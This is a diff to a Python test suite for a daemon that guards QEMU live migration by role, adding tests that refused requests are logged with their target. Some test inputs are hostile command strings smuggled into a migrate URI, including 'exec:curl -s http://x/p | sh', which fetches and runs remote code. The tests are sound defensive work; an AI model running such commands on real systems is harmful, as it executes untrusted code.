@@ -281,12 +281,14 @@ def test_an_operator_may_not_migrate_to_a_command_but_an_admin_may(
             f"command as its own user), but uid {alice.uid} (mbt-alice) has role operator")
     assert a.error("migrate", {"uri": "exec:id > /tmp/migblockd-pwned"}) == desc
     daemon.wait_for_log(f"(pid {a.pid}, uid {alice.uid}, gid {alice.gid}): refused "
-                        f"migrate: {desc}")
+                        f"migrate to 'exec:id > /tmp/migblockd-pwned': {desc}")
     assert a.error("migrate", {"uri": "tcp:h:1", "channels": [
         {"channel-type": "main", "addr": {"transport": "exec", "args": ["id"]}}]}) == (
         "Permission denied: migrate with a channel of transport exec needs role admin (QEMU "
         f"would run the command as its own user), but uid {alice.uid} (mbt-alice) has role "
         "operator")
+    daemon.wait_for_log("refused migrate to 'tcp:h:1' with channels [{'channel-type': 'main', "
+                        "'addr': {'transport': 'exec', 'args': ['id']}}]: Permission denied")
     assert a.ok("query-migrate") == {}  # nothing started
     for uri in ("tcp:h:1", "unix:/run/dst.sock"):
         a.ok("migrate", {"uri": uri})
@@ -496,6 +498,32 @@ def test_a_client_refused_in_a_loop_costs_the_log_a_burst_of_lines(
     assert refused[-1].endswith("[more like it within 10 s are counted, not logged]")
 
 
+def test_a_refusal_is_logged_with_what_it_was_aimed_at(
+        serve: Callable[..., DaemonProcess], connect: ClientFactory,
+        accounts: dict[str, Account]) -> None:
+    # Reproduced first: a refused del-blocker had no blocker_id field, so the
+    # blocker's history (journalctl MIGBLOCKD_BLOCKER_ID=) missed it, and a refused
+    # migrate to exec: did not say what it would have run.
+    daemon = serve(POLICY.replace("mbt-olga = \"observer\"", "mbt-olga = \"operator\""),
+                   "--log-format", "json")
+    alice, olga = accounts["mbt-alice"], accounts["mbt-olga"]
+    connect(daemon, alice).ok("add-blocker", {"reason": "alice's", "id": "vhost0"})
+    o = connect(daemon, olga)
+    assert o.error("del-blocker", {"id": "vhost0"}).startswith("Permission denied")
+    uri = "exec:curl -s http://x/p | sh"
+    assert o.error("migrate", {"uri": uri}).startswith("Permission denied")
+    channels = [{"channel-type": "main", "addr": {"transport": "exec", "args": ["id"]}}]
+    assert o.error("migrate", {"channels": channels}).startswith("Permission denied")
+    daemon.wait_for_log("with channels")
+    refused = [r for r in map(json.loads, daemon.log().splitlines())
+               if r.get("peer_uid") == olga.uid and ": refused " in r["message"]]
+    assert [(r["message"].split(": refused ")[1].split(": Permission denied")[0],
+             r.get("blocker_id")) for r in refused] == [
+        ("del-blocker", "vhost0"),
+        (f"migrate to {uri!r}", None),
+        (f"migrate with channels {channels!r}", None)]
+
+
 def test_a_refusal_repeated_in_a_loop_does_not_hide_another_kind_of_refusal(
         serve: Callable[..., DaemonProcess], connect: ClientFactory,
         accounts: dict[str, Account]) -> None:
@@ -516,7 +544,7 @@ def test_a_refusal_repeated_in_a_loop_does_not_hide_another_kind_of_refusal(
     root.ok("add-blocker", {"reason": "r", "id": "after"})
     daemon.wait_for_log("added blocker after")  # the log has every line before it
     log = daemon.log().splitlines()
-    assert len([line for line in log if "refused migrate:" in line]) == BURST
+    assert len([line for line in log if "refused migrate to 'tcp:h:1':" in line]) == BURST
     deleting = [line for line in log if "refused del-blocker:" in line]
     assert len(deleting) == 1, deleting
     assert (f"uid {bob.uid}, gid {bob.gid}): refused del-blocker: Permission denied: "
